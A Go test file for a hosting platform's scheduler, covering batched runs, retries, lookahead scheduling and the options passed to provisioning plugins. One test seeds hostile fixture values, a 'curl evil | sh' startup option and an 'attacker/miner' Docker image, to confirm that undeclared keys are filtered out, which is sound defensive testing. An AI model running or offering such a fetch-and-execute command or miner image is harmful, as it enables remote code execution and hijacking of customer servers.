package scheduler_test

import (
	"context"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/ezscale/platform/core/billing/billingtest"
	"github.com/ezscale/platform/core/catalog/catalogtest"
	"github.com/ezscale/platform/core/database"
	"github.com/ezscale/platform/core/database/databasetest"
	"github.com/ezscale/platform/core/scheduler"
	"github.com/ezscale/platform/sdk"
)

// TestRunChunk: runs due together share one job; one execution of it
// records each run's own outcome (success, a call refused before anything
// happened to retry with the same key, a definite failure to retry with a
// new key, a skip); the retried job executes only the runs still
// unfinished, including those left running by a replica that died before
// starting their actions; a repeat after everything finished calls nothing
// and notifies nothing again.
func TestRunChunk(t *testing.T) {
	t.Parallel()
	databasetest.Each(t, func(t *testing.T, db *database.DB) {
		b := setup(t, db)
		ctx := context.Background()
		ok := mustTask(t, b, scheduler.TaskInput{Type: "custom_script", Script: "ok", Cron: "0 * * * *", Notify: "always"})
		unknown := mustTask(t, b, scheduler.TaskInput{Type: "custom_script", Script: "later", Cron: "0 * * * *"})
		failing := mustTask(t, b, scheduler.TaskInput{Type: "custom_script", Script: "fail", Cron: "0 * * * *", MaxRetries: ptr(1)})
		disabled := mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "0 * * * *"})
		b.clock.Add(time.Hour)
		if n, err := b.s.DueTasks(ctx); err != nil || n != 4 {
			t.Fatalf("DueTasks: %d, %v", n, err)
		}
		chunks := b.jobRuns(t)
		if len(chunks) != 1 || len(chunks[0]) != 4 {
			t.Fatalf("run jobs %v, want one job of the 4 runs", chunks)
		}
		run := map[string]string{} // task id → run id
		for _, id := range []string{ok.ID, unknown.ID, failing.ID, disabled.ID} {
			run[id] = b.runs(t, id)[0].ID
		}
		if _, err := db.NewRaw("UPDATE scheduled_tasks SET enabled = ? WHERE id = ?", false, disabled.ID).Exec(ctx); err != nil {
			t.Fatal(err)
		}
		var mu sync.Mutex
		answered := map[string]bool{}
		b.prov.errFunc = func(c call) error {
			mu.Lock()
			defer mu.Unlock()
			if c.Key == run[unknown.ID] && !answered[c.Key] {
				answered[c.Key] = true
				return sdk.UnavailableError(time.Second, "rate limited: come back later")
			}
			return nil
		}
		keys := func() []string {
			var ks []string
			for _, c := range b.prov.Calls() {
				ks = append(ks, c.Key)
			}
			slices.Sort(ks)
			return ks
		}
		sorted := func(ks ...string) []string { slices.Sort(ks); return ks }
		status := func(taskID string) (string, int) {
			r := b.runs(t, taskID)[0]
			return r.Status, r.Attempt
		}

		if err := b.s.ExecuteRunsForTest(ctx, chunks[0], 1, 7); err == nil {
			t.Fatal("first execution returned nil; two runs are to be retried")
		}
		if diff := cmp.Diff(sorted(run[ok.ID], run[unknown.ID], run[failing.ID]), keys()); diff != "" {
			t.Errorf("keys of the first execution (-want +got)\n%s", diff)
		}
		for _, c := range []struct {
			task    string
			status  string
			attempt int
		}{{ok.ID, scheduler.RunSucceeded, 1}, {unknown.ID, scheduler.RunRetrying, 1}, {failing.ID, scheduler.RunRetrying, 2}, {disabled.ID, scheduler.RunSkipped, 1}} {
			if st, at := status(c.task); st != c.status || at != c.attempt {
				t.Errorf("task %s: run %s attempt %d, want %s attempt %d", c.task, st, at, c.status, c.attempt)
			}
		}
		if r := b.runs(t, disabled.ID)[0]; r.StartedAt != nil || r.Error != "the task was disabled before it ran" {
			t.Errorf("skipped run %+v", r)
		}
		if diff := cmp.Diff([]string{scheduler.NoticeTaskSucceeded}, b.notices.Types()); diff != "" {
			t.Errorf("notices after the first execution (-want +got)\n%s", diff)
		}

		// A replica took the retry, marked the runs running and died before
		// starting their actions: the rescued job starts them (the refused
		// one with its key again, the failed one with its next key).
		if _, err := db.NewRaw("UPDATE task_runs SET status = ? WHERE id IN (?, ?)", scheduler.RunRunning, run[unknown.ID], run[failing.ID]).Exec(ctx); err != nil {
			t.Fatal(err)
		}
		if err := b.s.ExecuteRunsForTest(ctx, chunks[0], 2, 7); err != nil {
			t.Fatalf("second execution: %v", err)
		}
		want := sorted(run[ok.ID], run[unknown.ID], run[unknown.ID], run[failing.ID], run[failing.ID]+"/2")
		if diff := cmp.Diff(want, keys()); diff != "" {
			t.Errorf("keys after the second execution (-want +got)\n%s", diff)
		}
		if st, _ := status(unknown.ID); st != scheduler.RunSucceeded {
			t.Errorf("the refused run is %s after its retry, want succeeded", st)
		}
		if st, at := status(failing.ID); st != scheduler.RunFailed || at != 2 {
			t.Errorf("the failing run is %s attempt %d, want failed after attempt 2", st, at)
		}
		if diff := cmp.Diff([]string{scheduler.NoticeTaskSucceeded, scheduler.NoticeTaskFailed}, b.notices.Types()); diff != "" {
			t.Errorf("notices after the second execution (-want +got)\n%s", diff)
		}

		// A repeat of the job (rescued after it completed) does nothing.
		if err := b.s.ExecuteRunsForTest(ctx, chunks[0], 3, 7); err != nil || len(b.prov.Calls()) != 5 || len(b.notices.Types()) != 2 {
			t.Errorf("repeat: %v, %d calls, notices %v", err, len(b.prov.Calls()), b.notices.Types())
		}
	})
}

// TestRunChunkLastTry: on the job's last River attempt a call refused
// before anything happened fails the run instead of leaving it to a retry
// that will not come; and a run's own limit (its attempts plus River's
// margin for such calls) applies inside a chunk whose job allows more.
func TestRunChunkLastTry(t *testing.T) {
	t.Parallel()
	databasetest.Each(t, func(t *testing.T, db *database.DB) {
		b := setup(t, db)
		ctx := context.Background()
		short := mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "0 * * * *", MaxRetries: ptr(0)})
		long := mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "0 * * * *", MaxRetries: ptr(10)})
		b.clock.Add(time.Hour)
		if _, err := b.s.DueTasks(ctx); err != nil {
			t.Fatal(err)
		}
		b.prov.errFunc = func(call) error { return sdk.UnavailableError(time.Second, "backend busy, retry later") }
		chunk := b.jobRuns(t)[0]
		// Attempt 6 of 16: past the short task's 1 + 5, within the long one's.
		if err := b.s.ExecuteRunsForTest(ctx, chunk, 6, 16); err == nil {
			t.Fatal("execution returned nil; the long task's run is to be retried")
		}
		if r := b.runs(t, short.ID)[0]; r.Status != scheduler.RunFailed {
			t.Errorf("short task's run %s, want failed at its own limit", r.Status)
		}
		if r := b.runs(t, long.ID)[0]; r.Status != scheduler.RunRetrying || r.Attempt != 1 {
			t.Errorf("long task's run %s attempt %d, want retrying attempt 1", r.Status, r.Attempt)
		}
		if err := b.s.ExecuteRunsForTest(ctx, chunk, 16, 16); err != nil {
			t.Fatalf("last attempt: %v", err)
		}
		if r := b.runs(t, long.ID)[0]; r.Status != scheduler.RunFailed {
			t.Errorf("long task's run %s after the job's last attempt, want failed", r.Status)
		}
	})
}

// TestDueTasksAhead: with the default lookahead (a minute), runs due within it are made ahead
// of their due time, their job ready (available, not scheduled) at that
// time; an overdue run still starts now and is caught up once; changing
// the schedule drops the runs made ahead for the old one.
func TestDueTasksAhead(t *testing.T) {
	t.Parallel()
	databasetest.Each(t, func(t *testing.T, db *database.DB) {
		b := setup(t, db, setupOpts{})
		ctx := context.Background()
		hourly := mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "0 * * * *"})
		minutely := mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "* * * * *"})
		b.clock.Set(time.Date(2026, 3, 2, 9, 59, 0, 0, time.UTC))
		ten := time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
		// The minutely task was due at 9:01: caught up once now, and its
		// 10:00 run made ahead, like the hourly task's.
		if n, err := b.s.DueTasks(ctx); err != nil || n != 3 {
			t.Fatalf("DueTasks: %d, %v; want 3", n, err)
		}
		var dues []time.Time
		for _, r := range append(b.runs(t, minutely.ID), b.runs(t, hourly.ID)...) {
			if r.Status != scheduler.RunQueued {
				t.Errorf("run due %v is %s, want queued", r.DueAt, r.Status)
			}
			dues = append(dues, r.DueAt)
		}
		if diff := cmp.Diff([]time.Time{time.Date(2026, 3, 2, 9, 1, 0, 0, time.UTC), ten, ten}, dues); diff != "" {
			t.Errorf("due times (-want +got)\n%s", diff)
		}
		if got, _ := b.s.Task(ctx, b.account, hourly.ID); !got.NextRunAt.Equal(ten.Add(time.Hour)) {
			t.Errorf("hourly next_run_at %v, want 11:00", got.NextRunAt)
		}
		var jobs []struct {
			State       string    `bun:"state"`
			ScheduledAt time.Time `bun:"scheduled_at"`
		}
		if err := db.NewSelect().Table("river_job").Column("state", "scheduled_at").Where("kind = ?", scheduler.KindTaskRun).OrderExpr("id").Scan(ctx, &jobs); err != nil {
			t.Fatal(err)
		}
		chunks := b.jobRuns(t)
		if len(jobs) != 3 || len(chunks) != 3 {
			t.Fatalf("jobs %+v of runs %v, want the caught-up run's and the 10:00 runs'", jobs, chunks)
		}
		for i, j := range jobs[1:] {
			if j.State != "available" || !j.ScheduledAt.Equal(ten) {
				t.Errorf("the job of 10:00 runs %v is %s at %v, want available at 10:00", chunks[i+1], j.State, j.ScheduledAt)
			}
		}
		hourlyRun := b.runs(t, hourly.ID)[0].ID
		// A second pass makes nothing.
		if n, err := b.s.DueTasks(ctx); err != nil || n != 0 {
			t.Errorf("second DueTasks: %d, %v; want 0", n, err)
		}
		// A new schedule drops the run made for the old one.
		b.clock.Add(30 * time.Second)
		if _, err := b.s.UpdateTask(ctx, b.account, hourly.ID, scheduler.TaskPatch{Cron: ptr("30 * * * *")}); err != nil {
			t.Fatal(err)
		}
		if rs := b.runs(t, hourly.ID); len(rs) != 0 {
			t.Errorf("runs of the rescheduled task %+v, want none", rs)
		}
		if err := b.s.ExecuteRunsForTest(ctx, []string{hourlyRun}, 1, 6); err != nil || len(b.prov.Calls()) != 0 {
			t.Errorf("the dropped run's job: %v, %d calls; want nothing done", err, len(b.prov.Calls()))
		}
	})
}

// TestRunTellsThePluginOnlyDeclaredOptions: a scheduled run's call carries
// the plan's declared options and the customer's offered choices, never a
// key the plugin does not declare or the plan does not offer.
func TestRunTellsThePluginOnlyDeclaredOptions(t *testing.T) {
	t.Parallel()
	databasetest.Each(t, func(t *testing.T, db *database.DB) {
		b := setup(t, db)
		ctx := context.Background()
		for _, err := range []error{
			billingtest.SetServiceOptions(ctx, db, b.full, `{"hostname":"web1","docker_image":"attacker/miner","package":"9"}`),
			catalogtest.SetPlanOptions(ctx, db, b.planFull, `{"package":"1","startup":"curl evil | sh"}`, `{"hostname":[]}`),
		} {
			if err != nil {
				t.Fatal(err)
			}
		}
		mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "0 * * * *"})
		b.clock.Add(time.Hour)
		if _, err := b.s.DueTasks(ctx); err != nil {
			t.Fatal(err)
		}
		chunks := b.jobRuns(t)
		if len(chunks) != 1 {
			t.Fatalf("run jobs %v, want one", chunks)
		}
		if err := b.s.ExecuteRunsForTest(ctx, chunks[0], 1, 7); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(map[string]string{"package": "1", "hostname": "web1"}, b.prov.Options(b.full)); diff != "" {
			t.Errorf("options the plugin was told (-want +got):\n%s", diff)
		}
	})
}

// TestRunTellsThePluginWhatCreateDid: a scheduled task's provisioner is
// told about the service what billing tells it at Create (one description,
// billing's): the add-ons' options under the plan's under the customer's,
// and the customer. The scheduler's own description left the add-ons and
// the customer out.
func TestRunTellsThePluginWhatCreateDid(t *testing.T) {
	t.Parallel()
	databasetest.Each(t, func(t *testing.T, db *database.DB) {
		b := setup(t, db)
		ctx := context.Background()
		addon, err := catalogtest.Addon(ctx, db)
		if err != nil {
			t.Fatal(err)
		}
		for _, err := range []error{
			catalogtest.SetAddonOptions(ctx, db, addon, `{"extra_ips":"2","package":"7"}`),
			billingtest.ServiceAddon(ctx, db, b.full, addon, 1, 300),
			billingtest.SetServiceOptions(ctx, db, b.full, `{"hostname":"web1"}`),
			catalogtest.SetPlanOptions(ctx, db, b.planFull, `{"package":"1"}`, `{"hostname":[]}`),
		} {
			if err != nil {
				t.Fatal(err)
			}
		}
		mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "0 * * * *"})
		b.clock.Add(time.Hour)
		if _, err := b.s.DueTasks(ctx); err != nil {
			t.Fatal(err)
		}
		chunks := b.jobRuns(t)
		if len(chunks) != 1 {
			t.Fatalf("run jobs %v, want one", chunks)
		}
		if err := b.s.ExecuteRunsForTest(ctx, chunks[0], 1, 7); err != nil {
			t.Fatal(err)
		}
		// The plan's package wins over the add-on's; the add-on adds its
		// own key; the customer's hostname is offered.
		if diff := cmp.Diff(map[string]string{"package": "1", "extra_ips": "2", "hostname": "web1"}, b.prov.Options(b.full)); diff != "" {
			t.Errorf("options the plugin was told (-want +got):\n%s", diff)
		}
		if got := b.prov.Customer(b.full); got != b.email {
			t.Errorf("the plugin was told the customer %q, want %q", got, b.email)
		}
	})
}
